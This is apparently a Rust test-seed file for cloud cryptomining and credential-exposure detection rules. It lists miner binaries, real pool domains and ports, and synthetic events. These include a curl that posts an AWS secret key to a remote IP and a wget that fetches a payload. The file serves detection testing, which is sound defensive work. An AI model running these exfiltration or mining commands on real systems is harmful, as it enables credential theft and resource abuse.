//! The four branches of Chronicle's rule for mining in the cloud, with the false positives that it names,
//! and the five validation tests.

use serde_json::{Value, json};

use super::Case;
use super::build::*;

/// Every name and parameter of the published rule.
pub fn seed_c1_miner_process() -> Vec<Case> {
    const MINERS: [&str; 14] = [
        "xmrig",
        "xmrig-notls",
        "minerd",
        "cpuminer",
        "cryptonight",
        "nbminer",
        "t-rex",
        "lolminer",
        "ethminer",
        "cgminer",
        "bfgminer",
        "claymore",
        "phoenixminer",
        "teamtntbot",
    ];
    const PARAMETERS: [&str; 10] = [
        "--url stratum+tcp://192.0.2.1:443",
        "--url stratum+ssl://192.0.2.1:443",
        "--donate-level 1",
        "-o pool.example.com:3333",
        "-o xmrpool.eu:9999",
        "-o supportxmr.com:443",
        "-o pool.minexmr.com:4444",
        "-o gulf.moneroocean.stream:10128",
        "-o pool.hashvault.pro:80",
        "-o xmr-eu1.nanopool.org:14444",
    ];
    let runs = |binary: &str, arguments: &str| tetragon(&[Pod::own().exec(binary, arguments)]);
    let mut cases: Vec<Case> = Vec::new();
    for name in MINERS {
        cases.push(
            Case::fires(name, runs(&format!("/usr/local/bin/{name}"), ""), &["miner-process"])
                .severity("critical"),
        );
    }
    for parameters in PARAMETERS {
        cases.push(Case::fires(parameters, runs("/tmp/kworker", parameters), &["miner-process"]));
    }
    cases.push(Case::fires(
        "on an instance, as Sysmon tells it",
        vec![sample("ocsf-process-miner")],
        &["container-image-not-approved", "miner-process"],
    ));
    for (says, binary, arguments) in [
        ("stopping a miner", "/usr/bin/pkill", "-f xmrig"),
        ("searching logs for one", "/bin/grep", "-r stratum+tcp:// /var/log"),
        ("uninstalling one", "/usr/bin/apt-get", "remove -y xmrig"),
        ("a compiler's output file", "/usr/bin/gcc", "-o pool.o pool.c"),
        ("a blockchain developer's own node", "/usr/local/bin/geth", "--http --http.port 8545"),
    ] {
        cases.push(Case::quiet(says, runs(binary, arguments)));
    }
    cases.push(Case::quiet("a team that mines on purpose", runs("/opt/xmrig", "")).policy(
        "suppress: [{detection: miner-process, account: \"111122223333\", until: 2099-12-31, reason: research}]",
    ));
    cases
}

pub fn seed_c2_mining_pool_connection() -> Vec<Case> {
    const PORTS: [u16; 12] = [3333, 3334, 4444, 4445, 14444, 45560, 5555, 8333, 7777, 9999, 13333, 19999];
    let port = |port: u16| flow("203.0.113.12", port, 6);
    let mut cases: Vec<Case> = PORTS
        .map(|number| {
            Case::fires("a port alone is weak evidence", port(number), &["mining-pool-connection"])
                .severity("low")
        })
        .into();
    let miner = || tetragon(&[Pod::own().connects("/opt/xmrig", "203.0.113.12", 443)]);
    cases.push(
        Case::fires("a miner, whatever the port", miner(), &["mining-pool-connection"]).severity("high"),
    );
    let both = || {
        let pod = Pod::own();
        tetragon(&[pod.exec("/opt/xmrig", "-B"), pod.connects("/opt/worker", "203.0.113.12", 3333)])
    };
    cases.push(
        Case::fires("a port where a miner was started", both(), &["miner-process", "mining-pool-connection"])
            .history(),
    );
    for (says, events) in [
        ("an ordinary port", port(443)),
        (
            "the reply's port is not the destination's",
            vec![delivery(
                "/vpc/flow-logs",
                &[json!(
                    "2 111122223333 eni-0a1b2c3d4e5f60718 203.0.113.12 10.0.14.91 3333 41022 6 18 3910 1772787600 1772787660 ACCEPT OK"
                )],
            )],
        ),
        ("an industrial device on port 4444, within the network", flow("10.4.0.17", 4444, 6)),
        ("another protocol", flow("203.0.113.12", 4444, 17)),
        ("a browser", tetragon(&[Pod::own().connects("/usr/lib/firefox/firefox", "203.0.113.12", 8333)])),
    ] {
        cases.push(Case::quiet(says, events));
    }
    cases.push(Case::quiet("a blockchain developer's node", port(8333)).policy(
        "suppress: [{detection: mining-pool-connection, account: \"111122223333\", until: 2099-12-31, reason: nodes}]",
    ));
    cases.push(
        Case::quiet("an industrial device across the Internet", port(4444))
            .policy("detections: {mining-pool-connection: {enabled: false}}"),
    );
    cases
}

/// The registered domain and what is below it, never a part of a name.
pub fn seed_c3_mining_pool_dns() -> Vec<Case> {
    const POOLS: [&str; 18] = [
        "minexmr.com.",
        "pool.minexmr.com.",
        "supportxmr.com.",
        "nanopool.org.",
        "f2pool.com.",
        "antpool.com.",
        "pool.minergate.com.",
        "xmrpool.eu.",
        "hashvault.pro.",
        "gulf.moneroocean.stream.",
        "xmr.pool.",
        "stratum.eu.nicehash.com.",
        "xmr.rplant.xyz.",
        "mine.c3pool.com.",
        "monero.herominers.com.",
        "xmr.2miners.com.",
        "xmr.kryptex.network.",
        "rx.unmineable.com.",
    ];
    let mut cases: Vec<Case> =
        POOLS.map(|name| Case::fires(name, query(name), &["mining-pool-dns"]).severity("high")).into();
    cases.push(Case::fires("from Security Lake", vec![sample("ocsf-dns-mining-pool")], &["mining-pool-dns"]));
    for name in [
        "notminexmr.com.",
        "minexmr.com.example.net.",
        "nanopool.org-cdn.example.com.",
        "eu-central-1.console.aws.amazon.com.",
    ] {
        cases.push(Case::quiet(name, query(name)));
    }
    cases.push(Case::quiet("a blockchain developer", query("supportxmr.com.")).policy(
        "suppress: [{detection: mining-pool-dns, account: \"111122223333\", until: 2099-12-31, reason: research}]",
    ));
    cases
}

const FOREIGN: Pod = Pod::of("docker.io/quickdata/importer:latest");

pub fn seed_t1_container_running_a_miner() -> Vec<Case> {
    vec![
        Case::fires(
            "xmrig in a container",
            tetragon(&[Pod::own().exec("/usr/local/bin/xmrig", "")]),
            &["miner-process"],
        )
        .severity("critical"),
        Case::quiet(
            "the same container without it",
            tetragon(&[Pod::own().exec("/usr/local/bin/server", "")]),
        ),
    ]
}

pub fn seed_t2_connection_to_a_mining_pool() -> Vec<Case> {
    let mut connection = Pod::own().connects("/usr/bin/curl", "203.0.113.12", 3333);
    connection["process_kprobe"]["destination_names"] = json!(["pool.minexmr.com"]);
    let events = |name: &str| {
        let mut events = query(name);
        events.extend(tetragon(std::slice::from_ref(&connection)));
        events
    };
    vec![
        Case::fires(
            "curl and its query",
            events("pool.minexmr.com."),
            &["mining-pool-connection", "mining-pool-dns"],
        )
        .severity("high"),
        Case::quiet("curl and a query for a package mirror", {
            let mut events = query("deb.debian.org.");
            events.extend(tetragon(&[Pod::own().connects("/usr/bin/curl", "198.51.100.7", 443)]));
            events
        }),
    ]
}

/// Pull, start and `wget`, and a connection to a port that pools listen on, though nearby.
pub fn seed_t3_malicious_image_then_wget() -> Vec<Case> {
    let pod = Pod::of("docker.io/quickdata/xmrig-helper:latest");
    let events = |pod: Pod| {
        vec![
            delivery(
                AUDIT,
                &[pod.created("shop", "2026-03-06T09:00:01Z"), pod.started("shop", "2026-03-06T09:00:03Z")],
            ),
            delivery(
                TETRAGON,
                &[
                    pod.exec_at("/usr/bin/wget", "-q http://198.51.100.7/x", "2026-03-06T09:00:05Z"),
                    pod.connects_at("/usr/bin/wget", "127.0.0.1", 3333, "2026-03-06T09:00:07Z"),
                ],
            ),
        ]
    };
    vec![
        Case::fires(
            "an unknown image that fetches something at once",
            events(pod),
            &["container-first-activity", "container-image-not-approved"],
        )
        .history(),
        Case::quiet("an own image that does the same", events(Pod::own())).history(),
    ]
}

pub fn seed_t4_launch_from_a_community_ami() -> Vec<Case> {
    vec![
        Case::fires(
            "a public community AMI",
            vec![sample("run-instances-community-ami")],
            &["machine-image-not-approved"],
        )
        .severity("high"),
        Case::quiet("an own image", vec![sample("run-instances-own-image")]),
    ]
}

pub fn seed_t5_credentials_in_a_command() -> Vec<Case> {
    let with = |arguments: &str, environment: &[&str]| {
        let mut exec = FOREIGN.exec("/usr/bin/curl", arguments);
        let variables: Vec<Value> =
            environment.iter().map(|name| json!({"key": name, "value": "x"})).collect();
        exec["process_exec"]["process"]["environment_variables"] = json!(variables);
        tetragon(&[exec])
    };
    const AWS: [&str; 2] = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"];
    const TOLD: [&str; 2] = ["container-image-not-approved", "credential-in-command"];
    vec![
        Case::fires(
            "AWS's keys by name",
            with("-d aws_secret_access_key=abc http://198.51.100.7/", &[]),
            &TOLD,
        )
        .severity("high"),
        Case::fires(
            "a token, in a container with AWS's variables",
            with("-d token=abc123 http://198.51.100.7/", &AWS),
            &TOLD,
        ),
        Case::fires(
            "without AWS's variables a token is everyday",
            with("-d token=abc123 http://198.51.100.7/", &[]),
            &TOLD[..1],
        ),
        Case::fires("with them, an ordinary call", with("-s https://example.com/health", &AWS), &TOLD[..1]),
    ]
}
